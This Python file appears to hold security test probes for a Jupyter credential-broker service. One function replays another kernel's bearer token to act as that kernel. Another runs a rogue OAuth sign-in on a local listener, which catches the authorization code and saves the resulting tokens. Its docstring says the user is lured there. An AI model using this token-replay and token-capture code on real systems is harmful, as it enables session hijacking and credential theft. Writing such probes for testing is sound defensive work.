"""A capability in the wrong hands."""

import base64
import contextlib
import hashlib
import http.server
import json
import os
import secrets
import threading
import urllib.parse
import urllib.request
from pathlib import Path


def replay(t):
    """R59: another kernel's capability, known by whatever way."""
    token = t["sibling_capability"]
    request = urllib.request.Request(
        os.environ["JUPYTER_VALET_URL"] + "/connections",
        headers={"Authorization": f"Bearer {token}"},
    )
    with urllib.request.urlopen(request, timeout=10) as answer:
        return "USE as the other kernel: " + json.dumps(json.load(answer))[:200]


def own_flow(t):
    """R161: a sign-in of the kernel's own, with the public client's id, on a port of its own.

    The person's browser is sent there by the harness, as a script or a lie would.
    """
    verifier = secrets.token_urlsafe(48)
    digest = hashlib.sha256(verifier.encode()).digest()
    listener = http.server.HTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
    back = f"http://127.0.0.1:{listener.server_port}/valet/callback/canary"
    client = {"client_id": t["client_id"], "redirect_uri": back}

    class Back(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            code = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)["code"][0]
            form = {**client, "grant_type": "authorization_code", "code": code}
            body = urllib.parse.urlencode({**form, "code_verifier": verifier}).encode()
            with contextlib.suppress(OSError):
                answer = urllib.request.urlopen(t["issuer"] + "/token", body, timeout=10)
                Path(t["root"], "own-tokens").write_bytes(answer.read())
            self.send_response(204)
            self.end_headers()

    listener.RequestHandlerClass = Back
    threading.Thread(target=listener.handle_request, daemon=True).start()
    challenge = base64.urlsafe_b64encode(digest).decode().rstrip("=")
    asked = {
        **client,
        "response_type": "code",
        "scope": "openid profile issues:read",
        "state": "red",
        "code_challenge": challenge,
        "code_challenge_method": "S256",
    }
    url = t["issuer"] + "/authorize?" + urllib.parse.urlencode(asked)
    Path(t["root"], "own-url").write_text(url)
    return "AFTER"
